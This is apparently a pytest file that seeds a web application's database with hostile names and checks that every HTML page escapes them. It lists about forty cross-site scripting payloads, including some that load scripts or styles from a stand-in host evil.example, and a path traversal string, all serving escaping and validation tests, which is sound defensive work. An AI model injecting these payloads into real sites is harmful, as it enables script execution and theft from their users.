"""Names that are markup: whatever page shows one, it shows its text."""

from html.parser import HTMLParser

import pytest
from sqlalchemy import select, text

from holding.db.models import Connection, Upload
from holding.db.models.columns import UploadState
from tests.portal.languages.test_languages import PAGES
from tests.portal.languages.test_walk import ROUTES
from tests.portal.reading import works

pytestmark = pytest.mark.sqlite
HOSTILE = """x"'><img src=x onerror=alert(1)><svg/onload=alert(2)>"""
SCHEME = "javascript:alert(3)"
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script/src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form><button formaction=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:click=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
)
"""What would run if a page took a name for markup."""
NAMED = {
    "company": "name",
    "person": "name",
    "record": "party",
    "posting": "party",
    "hold": "message",
    "cause": "label",
    "team": "title",
}
"""Columns that hold what somebody outside, or a colleague, called something."""


LEADING = {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post"}


class Marked(HTMLParser):
    """What of a page a browser would run or load because of a name."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            leads = name in LEADING and (value or "").strip().lower().startswith("javascript:")
            if leads or name.startswith("on"):
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and value == "x":
                self.found.append(f"{tag} src")


def run_by(page: str) -> list[str]:
    found = Marked()
    found.feed(page)
    return found.found


def test_the_reader_of_this_test_sees_what_a_browser_would_run() -> None:
    assert run_by(f'<p title="{HOSTILE}">') != []
    assert run_by(f"<p>{HOSTILE}</p>") != []
    assert run_by(f'<a href="{SCHEME}">') != []
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.slow
@pytest.mark.parametrize("name", ["adam", "farah", "nurul"])
def test_no_page_takes_a_name_for_markup(name, visit, database, clock):
    reader = visit(name)
    works(database, clock)
    with database.write() as session:
        for table, column in NAMED.items():
            said = {"said": f"{HOSTILE} {table} {' '.join(PAYLOADS)}"}
            session.execute(text(f"UPDATE {table} SET {column} = :said"), said)
        source = session.scalars(select(Connection).where(Connection.name == "netshop")).first()
        given = {"sha256": "0", "body": b"", "state": UploadState.DONE, "at": clock.now()}
        session.add(
            Upload(
                company_id=source.company_id,
                source_id=source.id,
                person_id=None,
                name=f"{HOSTILE} upload.csv",
                confirmed_at=clock.now(),
                **given,
            )
        )
        for target in session.scalars(select(Connection)):
            target.settings = {**target.settings, "company_name": HOSTILE, "app_url": SCHEME}
    shown, seen = set(), 0
    for url in dict.fromkeys((*ROUTES.values(), *PAGES)):
        answer = reader.client.get(url)
        page = answer.get_data(as_text=True)
        if not answer.content_type.startswith("text/html"):
            continue
        assert "<img src=x" not in page, url
        assert "<svg/onload" not in page, url
        assert [payload for payload in PAYLOADS if payload in page] == [], url
        assert run_by(page) == [], url
        seen += answer.status_code == 200
        shown |= {each for each in (*NAMED, "upload.csv") if f"alert(2)&gt; {each}" in page}
    assert seen > 20
    assert {"company", "person", "record", "hold"} & shown, shown
    if name == "farah":
        assert {"hold", "record", "cause", "upload.csv"} <= shown


def test_a_connection_cannot_be_called_by_markup(visit, database):
    adam = visit("adam")
    with database.read() as session:
        before = session.scalars(select(Connection.name)).all()
    for hostile in (HOSTILE, "../../etc/passwd", "a b", "<b>"):
        form = {"name": hostile, "system": "workbook", "way": "file"}
        answer = adam.post("/c/kedai/connections/new?system=workbook", form)
        assert answer.status_code == 422, hostile
        assert "<img src=x" not in answer.get_data(as_text=True)
    with database.read() as session:
        assert session.scalars(select(Connection.name)).all() == before
